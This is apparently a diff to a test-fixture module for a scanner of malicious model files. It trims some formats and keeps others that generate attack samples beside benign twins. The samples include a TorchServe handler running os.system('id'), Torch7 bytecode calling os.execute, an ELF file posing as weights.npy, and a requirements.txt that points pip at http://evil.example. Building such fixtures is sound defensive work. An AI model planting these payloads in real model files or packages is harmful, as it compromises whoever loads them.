@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import base64
 import json
 import struct
 from collections.abc import Iterator
@@ -20,7 +19,7 @@ _EVIL = "import os\nos.system('id')\n"
 
 
 def other_formats() -> Iterator[Case]:
-    """Flax, TorchServe, MXNet, llamafile, Torch7, XGBoost and more."""
+    """Flax, TorchServe, llamafile, Torch7 and more."""
     for name, (file, evil, good) in _pairs().items():
         yield Case(_GROUP, name, {file: evil}, attack=True)
         if good is not None:
@@ -31,22 +30,16 @@ def _pairs() -> dict[str, tuple[str, bytes, bytes | None]]:
     """By name: file, attack, benign twin if there is one that says more than the others."""
     reads = message((1, message((5, "2"))), (2, graph_def(tf_node("r", "ReadFile", ["p"]))))
     plain = message((1, message((5, "2"))), (2, graph_def(tf_node("p", "Placeholder"))))
-    packed = base64.b64encode(BAD)
-    orbax = {"restore_fn": "os.system", "note": "eval(1)"}
     elsewhere = b"--index-url http://evil.example/x\ntorch\n"
     return {
         "flax, pickle in bytes": ("model.msgpack", _msgpack(BAD), _msgpack(bytes(range(40, 90)))),
         "TorchServe handler": ("model.mar", _mar(_EVIL), _mar("class Handler:\n    pass\n")),
         "TorchServe weights": ("model.mar", _mar("class Handler:\n    pass\n", BAD), None),
-        "MXNet custom operator": ("model-symbol.json", _mxnet("Custom"), _mxnet("FullyConnected")),
         "llamafile": ("model.llamafile", programs.elf() + real_zip(("model.gguf", ordinary().write())), None),
         "Torch7 function": ("model.t7", _torch7(6), _torch7(2)),
-        "XGBoost JSON with a pickle": ("model.json", _xgboost(packed.decode()), _xgboost("plain")),
         "TensorFlow metagraph": ("model.meta", reads, plain),
         "OCI layer": ("layer.tar", real_tar(("model/m.pkl", BAD)), real_tar(("model/m.pkl", GOOD))),
-        "Orbax": ("checkpoint.json", json.dumps(orbax).encode(), None),
         "pip in requirements": ("requirements.txt", elsewhere, b"torch==2\n"),
-        "pickle in text": ("notes.txt", packed, None),
         "executable as data": ("weights.npy", programs.elf(), None),
     }  # fmt: skip
 
@@ -63,24 +56,8 @@ def _mar(handler: str, weights: bytes = GOOD) -> bytes:
     )  # fmt: skip
 
 
-def _mxnet(operator: str, **attributes: str) -> bytes:
-    node = {"op": operator, "name": "n", "attrs": {"op_type": "evil", **attributes}, "inputs": []}
-    return json.dumps(
-        {"nodes": [node], "arg_nodes": [], "heads": [[0, 0, 0]], "attrs": {"mxnet_version": ["int", 1]}}
-    ).encode()
-
-
 def _torch7(kind: int) -> bytes:
     """A Torch7 file: a string (2), or a function (6) with its byte code."""
     if kind == 2:
         return struct.pack("<ii", 2, 5) + b"hello"
     return struct.pack("<iii", 6, 1, 8) + b"\x1bLJ\x02\x02os\x00" + struct.pack("<ii", 2, 9) + b"os.execut"
-
-
-def _xgboost(text: str) -> bytes:
-    return json.dumps(
-        {
-            "learner": {"attributes": {"note": text}, "gradient_booster": {"name": "gbtree"}},
-            "version": [2, 0, 0],
-        }
-    ).encode()
